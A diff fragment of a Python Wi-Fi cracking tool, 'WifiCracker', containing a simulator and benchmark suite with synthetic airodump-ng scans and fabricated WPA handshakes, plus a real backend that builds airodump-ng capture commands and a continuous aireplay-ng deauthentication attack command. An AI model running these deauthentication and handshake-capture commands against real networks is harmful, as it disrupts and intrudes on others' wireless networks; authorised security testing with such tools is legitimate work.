+        self._run(stop_all())
+        for child in running:
+            child.finished.wait(2)
+
+    def shutdown(self):
+        """Stops every child; registered with atexit, and safe to call again."""
+        if self._loop is None:
+            return
+        try:
+            self.stop()
+        finally:
+            with self._lock:
+                loop, self._loop = self._loop, None
+            loop.call_soon_threadsafe(loop.stop)
+
+class SyntheticScan:
+    """
+    Deterministic airodump-ng CSV content for benchmarks and the simulator:
+    'aps' access points and 'stations' clients (about two thirds associated),
+    where 'tick' advances the scan by one second and changes the power,
+    counters and last-seen time of about 'changes' (a fraction) of the rows.
+    """
+    HEADER = ("BSSID, First time seen, Last time seen, channel, Speed, Privacy, Cipher, "
+              "Authentication, Power, # beacons, # IV, LAN IP, ID-length, ESSID, Key")
+    STATION_HEADER = "Station MAC, First time seen, Last time seen, Power, # packets, BSSID, Probed ESSIDs"
+    CHANNELS = (1, 6, 11, 1, 6, 11, 2, 3, 4, 5, 7, 8, 9, 10, 36, 40, 44, 48, 52, 100, 149)
+
+    def __init__(self, aps=100, stations=0, seed=0, changes=0.01, start=1700000000):
+        rng = random.Random(seed)
+        self.seed = seed
+        self.changes = changes
+        self.start = start
+        self.aps = []
+        for i in range(aps):
+            self.aps.append({
+                "bssid": self.mac(0x020000000000 + i),
+                "channel": rng.choice(self.CHANNELS),
+                "privacy": rng.choice(("WPA2", "WPA2", "WPA2 WPA", "WPA3 WPA2", "OPN", "WEP")),
+                "power": -rng.randint(30, 90),
+                "essid": rng.choice(("", f"Net-{i}", f"Guest {i}", f"Cafe, {i}", f"HOME-{i:04X}")),
+            })
+        self.stations = []
+        for i in range(stations):
+            ap = self.aps[rng.randrange(aps)]["bssid"] if aps and rng.random() < 0.66 else None
+            probes = [f"Net-{rng.randrange(max(aps, 1))}" for _ in range(rng.randint(0, 3))]
+            self.stations.append({
+                "mac": self.mac(0x060000000000 + i), "bssid": ap,
+                "power": -rng.randint(40, 95), "probes": probes,
+            })
+
+    @staticmethod
+    def mac(value):
+        return value.to_bytes(6, 'big').hex(':').upper()
+
+    def _time(self, seconds):
+        return time.strftime('%Y-%m-%d %H:%M:%S', time.gmtime(self.start + seconds))
+
+    def _touched(self, index, tick):
+        """Tick at which a row last changed; rows change in a fixed pseudo-random pattern."""
+        period = max(1, round(1 / self.changes)) if self.changes else 0
+        if not period or tick == 0:
+            return 0
+        phase = (index * 2654435761 + self.seed) % period
+        return tick - ((tick - phase) % period) if tick >= phase else 0
+
+    def csv(self, tick=0, visible_aps=None, visible_stations=None, channels=None):
+        """
+        The CSV text as airodump-ng would have written it after 'tick' seconds,
+        with only the first 'visible_*' rows and the APs on 'channels'.
+        """
+        first = self._time(0)
+        lines = ["", self.HEADER]
+        for i, ap in enumerate(self.aps[:visible_aps]):
+            if channels is not None and ap["channel"] not in channels:
+                continue
+            touched = self._touched(i, tick)
+            lines.append(
+                f"{ap['bssid']}, {first}, {self._time(touched)}, {ap['channel']:2d},  54, {ap['privacy']}, "
+                f"{'CCMP' if ap['privacy'].startswith('WPA') else ''}, {'PSK' if ap['privacy'].startswith('WPA') else ''}, "
+                f"{ap['power'] - touched % 5:3d}, {10 + touched * 10:8d}, {touched:8d},   0.  0.  0.  0, "
+                f"{len(ap['essid']):3d}, {ap['essid']}, "
+            )
+        lines += ["", self.STATION_HEADER]
+        for i, station in enumerate(self.stations[:visible_stations]):
+            touched = self._touched(i + len(self.aps), tick)
+            lines.append(
+                f"{station['mac']}, {first}, {self._time(touched)}, {station['power']:3d}, {1 + touched:8d}, "
+                f"{station['bssid'] or '(not associated) '}, {','.join(station['probes'])}"
+            )
+        lines.append("")
+        return "\r\n".join(lines) + "\r\n"
+
+    def write(self, path, tick=0, **visible):
+        # airodump-ng rewrites the file in place
+        with open(path, 'w') as f:
+            f.write(self.csv(tick, **visible))
+
+class SyntheticCapture:
+    """
+    Deterministic radiotap pcap/pcapng content: beacons for 'networks' APs,
+    complete 4-way handshakes for the first 'handshakes' of them, PMKIDs for
+    the next 'pmkids', and 'noise' protected data frames and beacons.
+    """
+    RADIOTAP = b'\x00\x00\x08\x00\x00\x00\x00\x00'
+    LLC_EAPOL = CaptureAnalyzer.LLC_EAPOL
+
+    def __init__(self, networks=10, handshakes=5, pmkids=3, noise=10000, seed=0):
+        self.networks = networks
+        self.handshakes = handshakes
+        self.pmkids = pmkids
+        self.noise = noise
+        self.seed = seed
+
+    @staticmethod
+    def bssid(index):
+        return (0x020000000000 + index).to_bytes(6, 'big')
+
+    def beacon(self, bssid, essid):
+        header = b'\x80\x00\x00\x00' + b'\xff' * 6 + bssid + bssid + b'\x00\x00'
+        body = bytes(8) + b'\x64\x00\x11\x04' + bytes([0, len(essid)]) + essid
+        return self.RADIOTAP + header + body
+
+    def eapol(self, bssid, station, message, replay, nonce, pmkid=None, rng=None):
+        key_info = {1: 0x008a, 2: 0x010a, 3: 0x13ca, 4: 0x030a}[message]
+        key_data = CaptureAnalyzer.PMKID_KDE + pmkid if pmkid else b''
+        mic = bytes(rng.getrandbits(8) for _ in range(16)) if message in (2, 3) else bytes(16)
+        body = (bytes([2]) + struct.pack('>HH', key_info, 16) + struct.pack('>Q', replay) + nonce
+                + bytes(32) + mic + struct.pack('>H', len(key_data)) + key_data)
+        eapol = bytes([2, 3]) + struct.pack('>H', len(body)) + body
+        if message in (1, 3): # AP -> station
+            fc, addresses = b'\x08\x02', station + bssid + bssid
+        else:
+            fc, addresses = b'\x08\x01', bssid + station + bssid
+        return self.RADIOTAP + fc + b'\x00\x00' + addresses + b'\x00\x00' + self.LLC_EAPOL + eapol
+
+    def network_frames(self, index, rng):
+        """Beacon plus the handshake or PMKID of network 'index', as configured."""
+        bssid = self.bssid(index)
+        station = (0x060000000000 + index).to_bytes(6, 'big')
+        frames = [self.beacon(bssid, f"Net-{index}".encode())]
+        if index < self.handshakes:
+            anonce = bytes(rng.getrandbits(8) for _ in range(32))
+            snonce = bytes(rng.getrandbits(8) for _ in range(32))
+            frames += [
+                self.eapol(bssid, station, 1, 1, anonce, rng=rng),
+                self.eapol(bssid, station, 2, 1, snonce, rng=rng),
+                self.eapol(bssid, station, 3, 2, anonce, rng=rng),
+                self.eapol(bssid, station, 4, 2, bytes(32), rng=rng),
+            ]
+        elif index < self.handshakes + self.pmkids:
+            anonce = bytes(rng.getrandbits(8) for _ in range(32))
+            pmkid = bytes(rng.getrandbits(8) for _ in range(16))
+            frames.append(self.eapol(bssid, station, 1, 1, anonce, pmkid=pmkid, rng=rng))
+        return frames
+
+    def noise_frame(self, rng, payload, network=None):
+        """A protected data frame from a random station, or every tenth time a beacon."""
+        if network is None:
+            network = rng.randrange(self.networks or 1)
+        bssid = self.bssid(network)
+        if rng.random() < 0.1:
+            return self.beacon(bssid, f"Net-{network}".encode())
+        station = rng.getrandbits(48).to_bytes(6, 'big')
+        return self.RADIOTAP + b'\x88\x41\x00\x00' + bssid + station + bssid + b'\x00\x00\x00\x00' + payload[:rng.randint(60, 1500)]
+
+    def frames(self):
+        """Yields (timestamp, frame) in capture order."""
+        rng = random.Random(self.seed)
+        queue = [frame for index in range(self.networks) for frame in self.network_frames(index, rng)]
+        # Spread the interesting frames through the noise, in order per network
+        slots = set(rng.sample(range(self.noise + len(queue)), len(queue)))
+        payload = bytes(rng.getrandbits(8) for _ in range(1500))
+        position = 0
+        ts = 1700000000.0
+        for index in range(self.noise + len(queue)):
+            ts += 0.0005
+            if index in slots:
+                yield ts, queue[position]
+                position += 1
+            else:
+                yield ts, self.noise_frame(rng, payload)
+
+    @staticmethod
+    def pcap_header():
+        return struct.pack('<IHHiIII', 0xa1b2c3d4, 2, 4, 0, 0, 65535, 127)
+
+    @staticmethod
+    def pcap_record(ts, frame):
+        seconds = int(ts)
+        return struct.pack('<IIII', seconds, int((ts - seconds) * 1e6), len(frame), len(frame)) + frame
+
+    def write(self, path, format='pcap'):
+        with open(path, 'wb') as f:
+            if format == 'pcap':
+                f.write(self.pcap_header())
+                for ts, frame in self.frames():
+                    f.write(self.pcap_record(ts, frame))
+                return
+            def block(kind, body):
+                body += b'\0' * (-len(body) % 4)
+                return struct.pack('<II', kind, len(body) + 12) + body + struct.pack('<I', len(body) + 12)
+            f.write(block(0x0A0D0D0A, struct.pack('<IHHq', 0x1A2B3C4D, 1, 0, -1)))
+            f.write(block(1, struct.pack('<HHI', 127, 0, 65535)))
+            for ts, frame in self.frames():
+                micro = int(ts * 1e6)
+                f.write(block(6, struct.pack('<IIIII', 0, micro >> 32, micro & 0xffffffff, len(frame), len(frame)) + frame))
+
+class SyntheticSysfs:
+    """
+    A fake sysfs tree under 'root' for InterfaceDiscovery. Interfaces with a
+    'phy' get a phy80211 link (and a driver link with a 'driver'), the others
+    only the 'wireless' directory older drivers have.
+    """
+    def __init__(self, root):
+        self.root = root
+
+    def add_interface(self, name, ifindex, mac, arphrd=1, flags=0x1003, phy=None, driver=None):
+        base = os.path.join(self.root, 'class', 'net', name)
+        os.makedirs(base, exist_ok=True)
+        if phy:
+            target = os.path.join(self.root, 'class', 'ieee80211', phy)
+            os.makedirs(target, exist_ok=True)
+            os.symlink(target, os.path.join(base, 'phy80211'))
+        else:
+            os.makedirs(os.path.join(base, 'wireless'), exist_ok=True)
+        if driver:
+            target = os.path.join(self.root, 'bus', 'drivers', driver)
+            os.makedirs(target, exist_ok=True)
+            os.makedirs(os.path.join(base, 'device'), exist_ok=True)
+            os.symlink(target, os.path.join(base, 'device', 'driver'))
+        for attribute, value in (('type', str(arphrd)), ('flags', f"{flags:#x}"), ('ifindex', str(ifindex)),
+                                 ('address', mac)):
+            with open(os.path.join(base, attribute), 'w') as f:
+                f.write(value + '\n')
+        return base
+
+class BenchmarkSuite:
+    """
+    Measures the hot paths on synthetic data, without radios or root: scan
+    file parsing, interface discovery, capture analysis/conversion/compaction,
+    wordlist normalization and streaming, and command line startup.
+    Each stage is timed (best of 'repeat' runs) and then run once more under
+    tracemalloc for its peak Python memory. Results can be saved as a
+    baseline and compared against one.
+    """
+    def __init__(self, quick=False, repeat=3, workdir=None):
+        self.quick = quick
+        self.repeat = 1 if quick else repeat
+        self.workdir = workdir or tempfile.mkdtemp(prefix='wificracker-bench-')
+        self.results = []
+
+    def measure(self, stage, run, items, unit, setup=None, nbytes=None):
+        """Times run(setup()) and records throughput and peak memory."""
+        import gc
+        import tracemalloc
+        best = None
+        for _ in range(self.repeat):
+            state = setup() if setup else None
+            gc.collect()
+            started = time.perf_counter()
+            run(state)
+            elapsed = time.perf_counter() - started
+            best = elapsed if best is None else min(best, elapsed)
+        state = setup() if setup else None
+        gc.collect()
+        tracemalloc.start()
+        run(state)
+        peak = tracemalloc.get_traced_memory()[1]
+        tracemalloc.stop()
+        result = {
+            "stage": stage, "seconds": round(best, 6), "items": items, "unit": unit,
+            "rate": round(items / best, 1) if best else None,
+            "mb_per_s": round(nbytes / best / 1e6, 2) if nbytes and best else None,
+            "peak_kb": peak // 1024,
+        }
+        self.results.append(result)
+        return result
+
+    def _path(self, name):
+        return os.path.join(self.workdir, name)
+
+    def bench_scan_files(self):
+        sizes = (10, 1000, 5000) if self.quick else (10, 1000, 50000)
+        for size in sizes:
+            scan = SyntheticScan(aps=size, stations=size, seed=size)
+            path = self._path(f"scan-{size}-01.csv")
+            scan.write(path, tick=0)
+            nbytes = os.path.getsize(path)
+            self.measure(f"csv_initial_{size}", lambda _: ScanFileReader(path).refresh(), 2 * size, "rows", nbytes=nbytes)
+
+            def setup():
+                scan.write(path, tick=0)
+                reader = ScanFileReader(path)
+                reader.refresh()
+                scan.write(path, tick=1)
+                return reader
+            self.measure(f"csv_update_{size}", lambda reader: reader.refresh(), 2 * size, "rows", setup=setup, nbytes=nbytes)
+
+    def bench_interfaces(self):
+        root = self._path('sysfs')
+        sysfs = SyntheticSysfs(root)
+        for i in range(16):
+            sysfs.add_interface(f"wlan{i}", i + 2, SyntheticScan.mac(i), arphrd=803 if i % 2 else 1)
+        discovery = InterfaceDiscovery(root, netlink=None)
+        runs = 100
+        self.measure("interfaces_16", lambda _: [discovery.interfaces() for _ in range(runs)], 16 * runs, "interfaces")
+
+    def bench_captures(self):
+        capture = SyntheticCapture(networks=200, handshakes=50, pmkids=30, noise=20000 if self.quick else 200000)
+        path = self._path('capture.cap')
+        capture.write(path)
+        frames = capture.noise + 200 + 50 * 4 + 30
+        nbytes = os.path.getsize(path)
+        self.measure("pcap_analyze", lambda _: CaptureAnalyzer.analyze(path), frames, "frames", nbytes=nbytes)
+        self.measure("hc22000_export", lambda cache: Hc22000Exporter(cache).export(path), frames, "frames",
+                     setup=lambda: tempfile.mkdtemp(dir=self.workdir), nbytes=nbytes)
+        self.measure("pcap_compact", lambda _: CaptureCompactor().compact(path, self._path('compact.cap')),
+                     frames, "frames", nbytes=nbytes)
+
+    def bench_wordlists(self):
+        lines = 200000 if self.quick else 2000000
+        rng = random.Random(lines)
+        path = self._path('words.txt')
+        with open(path, 'w') as f:
+            for i in range(lines):
+                # Mostly valid, some too short, about 20% repeats
+                word = f"pass{rng.randrange(lines * 4 // 5):08d}" if i % 17 else f"p{i % 1000}"
+                f.write(word + '\n')
+        nbytes = os.path.getsize(path)
+        self.measure("wordlist_normalize", lambda cache: WordlistNormalizer(None, cache_dir=cache).normalize([path]),
+                     lines, "lines", setup=lambda: tempfile.mkdtemp(dir=self.workdir), nbytes=nbytes)
+
+        def stream(_):
+            feed = WordlistStream(path)
+            feed.start(['sh', '-c', 'cat > /dev/null']).wait()
+            feed.wait()
+        self.measure("wordlist_stream", stream, lines, "lines", nbytes=nbytes)
+
+    def bench_startup(self):
+        command = [sys.executable, LAUNCHER, '--help']
+        self.measure("startup_help", lambda _: subprocess.run(command, stdout=subprocess.DEVNULL, check=True), 1, "runs")
+
+    def run(self, progress=None):
+        for stage in (self.bench_scan_files, self.bench_interfaces, self.bench_captures,
+                      self.bench_wordlists, self.bench_startup):
+            before = len(self.results)
+            stage()
+            if progress:
+                for result in self.results[before:]:
+                    progress(result)
+        shutil.rmtree(self.workdir, ignore_errors=True)
+        return self.results
+
+    def document(self):
+        return {
+            "python": sys.version.split()[0], "machine": os.uname().machine,
+            "cpus": os.cpu_count(), "quick": self.quick, "results": self.results,
+        }
+
+    @staticmethod
+    def compare(results, baseline, tolerance=0.25):
+        """
+        Returns (regressions, skipped): [(stage, metric, baseline, now)] for
+        results worse than baseline by more than 'tolerance', and
+        [(stage, reason)] for results there was nothing to compare with.
+        """
+        known = {result["stage"]: result for result in baseline.get("results", [])}
+        regressions, skipped = [], []
+        for result in results:
+            old = known.get(result["stage"])
+            if not old:
+                skipped.append((result["stage"], "not in the baseline"))
+                continue
+            if old["items"] != result["items"]:
+                # e.g. a --quick run against a full baseline
+                skipped.append((result["stage"], f"{result['items']:,} {result['unit']}, baseline has {old['items']:,}"))
+                continue
+            for metric in ("seconds", "peak_kb"):
+                # Tiny values are mostly noise, give them some absolute slack
+                slack = 0.002 if metric == "seconds" else 64
+                if result[metric] > old[metric] * (1 + tolerance) + slack:
+                    regressions.append((result["stage"], metric, old[metric], result[metric]))
+        return regressions, skipped
+
+class ToolBackend:
+    """
+    Where the program's radio work goes: which interfaces exist, how their
+    mode is switched and which commands capture and deauthenticate. This one
+    uses the real interfaces and the aircrack-ng tools; SimulatedBackend
+    stands in for both.
+    """
+    name = 'tools'
+    simulated = False
+
+    def __init__(self, tools=None):
+        self.tools = tools or ToolRegistry()
+
+    def available(self, name):
+        return self.tools.available(name)
+
+    def discovery(self):
+        return InterfaceDiscovery()
+
+    def mode_switcher(self, discovery):
+        return ModeSwitcher(discovery, tools=self.tools)
+
+    def airodump(self, interface, write=None, output_format=None, write_interval=None,
+                 frequencies=None, bssid=None, channel=None):
+        """The airodump-ng command line for a survey (frequencies) or a single target (bssid, channel)."""
+        command = ['airodump-ng']
+        if bssid:
+            command += ['--bssid', bssid]
+        if channel:
+            command += ['-c', str(channel)]
+        if write:
+            command += ['--write', write]
+        if output_format:
+            command += ['--output-format', output_format]
+        if write_interval:
+            command += ['--write-interval', str(write_interval)]
+        if frequencies:
+            command += ['-C', ','.join(map(str, frequencies))]
+        return command + [interface]
+
+    def deauth(self, bssid, interface):
+        """The command line of a continuous deauthentication attack."""
+        return ['aireplay-ng', '--deauth', '0', '-a', bssid, interface]
+
+    def close(self):
+        pass
+
+class SimulatedModeBackend:
+    """Mode switching on a simulated interface: rewrites its files in the fake sysfs tree."""
+    name = 'simulated'
+    ARPHRD = {'managed': 1, 'monitor': 803}
+
+    def __init__(self, sysfs_root):
+        self.net = os.path.join(sysfs_root, 'class', 'net')
+
+    def _file(self, record, name):
+        return os.path.join(self.net, record["name"], name)
+
+    def set_up(self, record, up):
+        with open(self._file(record, 'flags')) as f:
+            flags = int(f.read(), 16)
+        flags = flags | InterfaceDiscovery.IFF_UP if up else flags & ~InterfaceDiscovery.IFF_UP
+        with open(self._file(record, 'flags'), 'w') as f:
+            f.write(f"{flags:#x}\n")
+
+    def set_mode(self, record, mode):
+        if mode.lower() not in self.ARPHRD:
+            raise OSError(f"mode '{mode}' is not supported by the simulator")
+        with open(self._file(record, 'flags')) as f:
+            if int(f.read(), 16) & InterfaceDiscovery.IFF_UP:
+                # Like nl80211, which refuses to change the type of a running interface
+                raise OSError("Device or resource busy")
+        with open(self._file(record, 'type'), 'w') as f:
+            f.write(f"{self.ARPHRD[mode.lower()]}\n")
+
+    def close(self):
+        pass
+
+class SimulatedBackend(ToolBackend):
+    """
+    Runs the scan loop, the target flow and mode switching without radios
+    or root. 'interfaces' fake wireless interfaces live in a sysfs tree in a
+    temporary directory, and airodump-ng and aireplay-ng are this script
+    started as AirodumpSimulator/aireplay stand-ins, so the supervisor, the
+    file watchers and the parsers all do their real work. 'aps' networks and
+    'stations' clients are on the air; 'growth' new APs show up per second
+    (None: all of them at once) and a 'churn' fraction of the rows changes
+    every second. A targeted capture gets its handshake after
+    'handshake_after' seconds. Cracking still uses the real tools.
+    """
+    name = 'simulator'
+    simulated = True
+
+    def __init__(self, tools=None, interfaces=2, aps=200, stations=300, churn=0.05, growth=None,
+                 seed=0, handshake_after=5.0):
+        super().__init__(tools)
+        self.options = ['--aps', str(aps), '--stations', str(stations), '--churn', str(churn),
+                        '--seed', str(seed), '--handshake-after', str(handshake_after)]
+        if growth:
+            self.options += ['--growth', str(growth)]
+        self.root = tempfile.mkdtemp(prefix='wificracker-sim-')
+        sysfs = SyntheticSysfs(self.root)
+        for i in range(interfaces):
+            sysfs.add_interface(f"wlan{i}", i + 3, SyntheticScan.mac(0x0a0000000000 + i).lower(),
+                                phy=f"phy{i}", driver='mac80211_hwsim')
+        atexit.register(self.close)
+
+    def available(self, name):
+        return name in ('airodump-ng', 'aireplay-ng') or super().available(name)
+
+    def discovery(self):
+        return InterfaceDiscovery(self.root, netlink=None)
+
+    def mode_switcher(self, discovery):
+        return ModeSwitcher(discovery, backend=lambda: SimulatedModeBackend(self.root), tools=self.tools)
+
+    def _command(self, tool, *args):
+        return [sys.executable, LAUNCHER, 'simulated-tool', tool] + list(args)
+
+    def airodump(self, interface, write=None, output_format=None, write_interval=None,
+                 frequencies=None, bssid=None, channel=None):
+        command = self._command('airodump-ng', *self.options)
+        if write:
+            command += ['--write', write, '--output-format', 'pcap' if bssid else (output_format or 'csv')]
+        if write_interval:
+            command += ['--interval', str(write_interval)]
+        if frequencies:
+            command += ['--frequencies', ','.join(map(str, frequencies))]
+        if bssid:
+            command += ['--bssid', bssid]
+        return command + [interface]
+
+    def deauth(self, bssid, interface):
+        return self._command('aireplay-ng', '--bssid', bssid, interface)
+
+    def close(self):
+        shutil.rmtree(self.root, ignore_errors=True)
+
+class AirodumpSimulator:
+    """
+    What airodump-ng does in simulator mode. A survey rewrites
+    <prefix>-01.csv every 'interval' seconds from a SyntheticScan; with a
+    BSSID it appends that network's traffic to <prefix>-01.cap instead, with
+    its handshake after 'handshake_after' seconds. A status line per write
+    stands in for airodump-ng's screen.
+    """
+    FRAMES_PER_TICK = 200 # Target traffic appended to a capture per interval
+
+    def __init__(self, aps, stations, churn=0.05, growth=None, seed=0, frequencies=None,
+                 bssid=None, handshake_after=5.0, interval=1.0):
+        self.scan = SyntheticScan(aps=aps, stations=stations, seed=seed, changes=churn)
+        self.growth = growth
+        self.channels = None
+        if frequencies:
+            self.channels = {ap["channel"] for ap in self.scan.aps
+                             if channel_to_frequency(ap["channel"]) in frequencies}
+        self.bssid = bssid
+        self.handshake_after = handshake_after
+        self.interval = interval
+        self.seed = seed
+
+    def visible(self, tick):
+        """(APs, stations) on the air after 'tick' intervals."""
+        aps, stations = len(self.scan.aps), len(self.scan.stations)
+        if not self.growth or not aps:
+            return aps, stations
+        shown = min(aps, int(self.growth * (tick + 1) * self.interval))
+        return shown, stations * shown // aps
+
+    def run(self, prefix=None, stream=None):
+        stream = stream or sys.stdout
+        if self.bssid:
+            return self._capture(prefix, stream)
+        tick = 0
+        try:
+            while True:
+                aps, stations = self.visible(tick)
+                if prefix:
+                    self.scan.write(f"{prefix}-01.csv", tick, visible_aps=aps, visible_stations=stations,
+                                    channels=self.channels)
+                stream.write(f"\r CH -- ][ Elapsed: {tick * self.interval:.0f} s ][ {aps} APs ][ {stations} stations ][ simulated\n")
+                stream.flush()
+                tick += 1
+                time.sleep(self.interval)
+        except KeyboardInterrupt:
+            return 0
+
+    def _capture(self, prefix, stream):
+        index = int(self.bssid.replace(':', ''), 16) - 0x020000000000
+        if not 0 <= index < len(self.scan.aps):
+            stream.write(f"BSSID {self.bssid} is not a simulated network\n")
+            return 1
+        frames = SyntheticCapture(networks=len(self.scan.aps), handshakes=len(self.scan.aps), seed=self.seed)
+        rng = random.Random(self.seed)
+        payload = bytes(rng.getrandbits(8) for _ in range(1500))
+        out = open(f"{prefix}-01.cap", 'wb') if prefix else None
+        started = time.time()
+        handshake = False
+        try:
+            if out:
+                out.write(SyntheticCapture.pcap_header())
+            while True:
+                elapsed = time.time() - started
+                batch = [frames.noise_frame(rng, payload, network=index) for _ in range(self.FRAMES_PER_TICK)]
+                if not handshake and elapsed >= self.handshake_after:
+                    batch += frames.network_frames(index, rng)
+                    handshake = True
+                if out:
+                    out.write(b''.join(SyntheticCapture.pcap_record(time.time(), frame) for frame in batch))
+                    out.flush()
+                status = f" ][ WPA handshake: {self.bssid}" if handshake else ""
+                stream.write(f"\r CH -- ][ Elapsed: {elapsed:.0f} s{status} ][ simulated\n")
+                stream.flush()
+                time.sleep(self.interval)
+        except KeyboardInterrupt:
+            return 0
+        finally:
+            if out:
+                out.close()
+
+class WifiCracker:
+    def get_wireless_interfaces(self):
+        """
+        Returns the names of all wireless interfaces, or an empty list if
+        none are found.
+        """
+        return [record["name"] for record in self.interfaces.interfaces()]
+
+    def get_interface_modes(self):
+        """
+        Returns {interface: mode} for all wireless interfaces; the mode is
+        None when it could not be determined.
+        """
+        return {record["name"]: record["mode"] for record in self.interfaces.interfaces()}
+
+    def check_network_status(self):
+        """
+        Checks all wireless network interfaces for their operational mode
+        (e.g., Managed or Monitor), with their phy and driver.
+        """
+        print(f"\n{Colors.HEADER}--- Checking Network Interface Status ---{Colors.ENDC}\n")
+        try:
+            records = self.interfaces.interfaces()
+            if not records:
+                print(f"{Colors.WARNING}No wireless interfaces found.{Colors.ENDC}")
+                return
+
+            print(f"Found {Colors.BOLD}{len(records)}{Colors.ENDC} wireless interface(s):\n")
+
+            for record in records:
+                interface, mode = record["name"], record["mode"]
+                details = ", ".join(v for v in (record["phy"], record["driver"], record["mac"]) if v)
+                if details:
+                    details = f" ({details})"
+                if mode:
+                    # Provide a more descriptive status
+                    if mode.lower() == "managed":
+                        status = f"{Colors.OKGREEN}Normal (Managed Mode){Colors.ENDC}"
+                    elif mode.lower() == "monitor":
+                        status = f"{Colors.WARNING}Monitor Mode{Colors.ENDC}"
+                    else:
+                        status = f"{Colors.OKCYAN}{mode} Mode{Colors.ENDC}" # For other modes like Ad-Hoc, etc.
+                        
+                    print(f"  -> Interface: {Colors.BOLD}{interface:<15}{Colors.ENDC} Status: {status}{details}")
+                else:
+                    print(f"  -> Interface: {Colors.BOLD}{interface:<15}{Colors.ENDC} Status: {Colors.FAIL}Could not determine mode.{Colors.ENDC}{details}")
+
+        except Exception as e:
+            print(f"An unexpected error occurred: {e}")
+
+    @property
+    def privileged(self):
+        """Root, or no need for it because the radios are simulated."""
+        return self.backend.simulated or os.geteuid() == 0
+
+    def set_interface_mode(self, interfaces, mode, verbose=True):
+        """
+        Switches one interface or a list of interfaces to 'monitor' or
+        'managed' mode, all at once. Returns {interface: record}.
+        Raises ModeSwitchError (after restoring the previous state) if any
+        of them could not be switched.
+        """
+        if isinstance(interfaces, str):
+            interfaces = [interfaces]
+        started = time.monotonic()
+        results = self.modes.switch({name: mode for name in interfaces})
+        if verbose:
+            elapsed = (time.monotonic() - started) * 1000
+            for name, record in results.items():
+                via = f" via {record['backend']}" if 'backend' in record else " (already set)"
+                print(f"  -> {Colors.OKCYAN}{name}{Colors.ENDC}: {record['mode']}{via}")
+            print(f"  -> Done in {elapsed:.0f} ms")
+        return results
+
+    def _choose_interfaces(self, interfaces, example):
+        """Asks for one or more interface names, separated by spaces or commas; 'all' selects every one."""
+        print("Available wireless interfaces:")
+        for i, iface in enumerate(interfaces, 1):
+            print(f"  {i}. {iface}")
+        answer = input(f"\n{Colors.OKBLUE}Enter the interface(s) to switch (e.g., {example}, or 'all'): {Colors.ENDC}").strip()
+        if answer.lower() == 'all':
+            return interfaces
+        chosen = [name for name in re.split(r'[\s,]+', answer) if name]
+        for name in chosen:
+            if name not in interfaces:
+                print(f"\nError: '{name}' is not a valid wireless interface.")
+                return None
+        return chosen or None
+
+    def enable_monitor_mode(self, interface_name=None):
+            """
+            Guides the user to switch selected wireless interfaces to monitor mode.
+            If interface_name is provided, it attempts to switch it directly.
+            """
+            # Check for root privileges
+            if not self.privileged:
+                print(f"{Colors.FAIL}Error: This action requires root privileges.{Colors.ENDC}")
+                print(f"{Colors.FAIL}Please run the script with 'sudo python3 app.py'{Colors.ENDC}")
+                return False
+
+            if not interface_name: # If not called with a specific interface
+                print(f"\n{Colors.HEADER}--- Enable Monitor Mode ---{Colors.ENDC}\n")
+
+            interfaces = self.get_wireless_interfaces()
+            if not interfaces:
+                print(f"{Colors.WARNING}No wireless interfaces found to switch.{Colors.ENDC}")
+                return False
+
+            if interface_name:
+                if interface_name not in interfaces:
+                    print(f"\nError: '{interface_name}' is not a valid wireless interface.")
+                    return False
+                chosen = [interface_name]
+            else:
+                chosen = self._choose_interfaces(interfaces, 'wlan0')
+                if not chosen:
+                    return False
+
+            try:
+                if not interface_name: # Only print this if in interactive mode
+                    print(f"\nAttempting to switch {', '.join(chosen)} to monitor mode...")
+                
+                self.set_interface_mode(chosen, 'monitor')
+
+                if not interface_name: # Only print this if in interactive mode
+                    print(f"\n{Colors.OKGREEN}Successfully switched {', '.join(chosen)} to monitor mode.{Colors.ENDC}")
+                    print("You can verify by running option 1 again.")
+                return True
+
+            except ModeSwitchError as e:
+                print(f"\n{Colors.FAIL}Could not switch '{e.interface}' ({e.step}): {e.cause}{Colors.ENDC}")
+                print("This could be a permissions issue or an unsupported device.")
+                print("The previous mode of every selected interface has been restored.")
+            except Exception as e:
+                print(f"An unexpected error occurred: {e}")
+            return False
+
+    def disable_monitor_mode(self):
+            """
+            Guides the user to switch selected wireless interfaces back to managed mode.
+            """
+            print(f"\n{Colors.HEADER}--- Disable Monitor Mode (Switch to Managed Mode) ---{Colors.ENDC}\n")
+    
+            # Check for root privileges
+            if not self.privileged:
+                print(f"{Colors.FAIL}Error: This action requires root privileges.{Colors.ENDC}")
+                print(f"{Colors.FAIL}Please run the script with 'sudo python3 app.py'{Colors.ENDC}")
+                return
+    
+            interfaces = self.get_wireless_interfaces()
+            if not interfaces:
+                print(f"{Colors.WARNING}No wireless interfaces found to switch.{Colors.ENDC}")
+                return
+    
+            try:
+                chosen = self._choose_interfaces(interfaces, 'wlan0mon')
+                if not chosen:
+                    return
+    
+                print(f"\nAttempting to switch {', '.join(chosen)} to managed mode...")
+    
+                self.set_interface_mode(chosen, 'managed')
+    
+                print(f"\n{Colors.OKGREEN}Successfully switched {', '.join(chosen)} to managed mode.{Colors.ENDC}")
+                print("You can verify by running option 1 again.")
+    
+            except ModeSwitchError as e:
+                print(f"\n{Colors.FAIL}Could not switch '{e.interface}' ({e.step}): {e.cause}{Colors.ENDC}")
+                print("The previous mode of every selected interface has been restored.")
+            except Exception as e:
+                print(f"\n{Colors.FAIL}An error occurred while executing a command.{Colors.ENDC}")
+                print(f"Details: {e}")
+
+    def enable_network_manager(self):
+            """
+            Starts the NetworkManager service using systemctl.
+            """
+            print(f"\n{Colors.HEADER}--- Enabling Network Manager ---{Colors.ENDC}\n")
+    
+            if self.backend.simulated:
+                print(f"{Colors.WARNING}Simulator mode: NetworkManager is left alone.{Colors.ENDC}")
+                return
+
+            # Check for root privileges
+            if not self.privileged:
+                print(f"{Colors.FAIL}Error: This action requires root privileges.{Colors.ENDC}")
+                print(f"{Colors.FAIL}Please run the script with 'sudo python3 app.py'{Colors.ENDC}")
+                return
+    
+            try:
+                command = ['systemctl', 'start', 'NetworkManager']
+                print(f"  -> Running: {Colors.OKCYAN}{' '.join(command)}{Colors.ENDC}")
+                
+                # Execute the command
+                subprocess.run(command, check=True, capture_output=True, text=True)
+                
+                print(f"\n{Colors.OKGREEN}Successfully sent command to start Network Manager.{Colors.ENDC}")
+                print("You can check its status with: 'systemctl status NetworkManager'")
+    
+            except FileNotFoundError:
+                print(f"{Colors.FAIL}Error: 'systemctl' command not found. This script may not be on a systemd-based Linux.{Colors.ENDC}")
+            except subprocess.CalledProcessError as e:
+                print(f"\n{Colors.FAIL}An error occurred while trying to start Network Manager.{Colors.ENDC}")
